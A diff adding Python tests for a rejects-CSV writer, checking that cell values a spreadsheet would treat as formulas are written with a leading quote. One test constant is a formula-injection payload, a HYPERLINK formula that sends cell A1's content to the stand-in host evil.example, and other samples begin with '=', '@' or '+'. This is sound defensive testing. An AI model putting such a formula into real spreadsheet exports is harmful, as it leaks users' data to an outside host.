@@ -1,0 +1,32 @@
+"""loaders/rejects.py: the rejects file as a spreadsheet opens it, and where it is written."""
+
+from __future__ import annotations
+
+import csv
+from pathlib import Path
+
+from loaders.rejects import Reject, RejectLog, read_rejects, spreadsheet_safe
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+def test_a_text_a_spreadsheet_would_run_as_a_formula_is_written_as_text(tmp_path: Path) -> None:
+    path = tmp_path / "rejects.csv"
+    with RejectLog(path) as log:
+        log.add(Reject("firms.csv", 2, "name", HOSTILE, "name is too long"))
+        log.add(Reject("bids.csv", 3, "amount", "-5", "amount is negative"))
+        log.add(Reject("bids.csv", 4, "@SUM(A1)", "Plain Name", "unknown column"))
+    with open(path, encoding="utf-8", newline="") as handle:
+        rows = list(csv.reader(handle))
+    assert rows[1][3] == "'" + HOSTILE  # the quote is what Excel and LibreOffice take as "this is text"
+    assert rows[2][3] == "'-5"  # text that reads as a number too: the safe side
+    assert rows[3][2:4] == ["'@SUM(A1)", "Plain Name"]  # any text cell, a column name too
+    assert [r.value for r in read_rejects(path)] == ["'" + HOSTILE, "'-5", "Plain Name"]
+    assert log.count == 3 and log.rejects[0].value == HOSTILE  # in memory, the value as read
+
+
+def test_spreadsheet_safe_quotes_formula_starts_and_leaves_numbers_and_plain_text():
+    for text in ("=1+1", "+86 10 1234", "-5", "@cmd", "\t=1", "\r=1", "\n=1"):
+        assert spreadsheet_safe(text) == "'" + text, repr(text)
+    for value in ("Alpha Build", "北京", "a=b", "", "'=already quoted", -5, 3.5, None, True):
+        assert spreadsheet_safe(value) == value, repr(value)
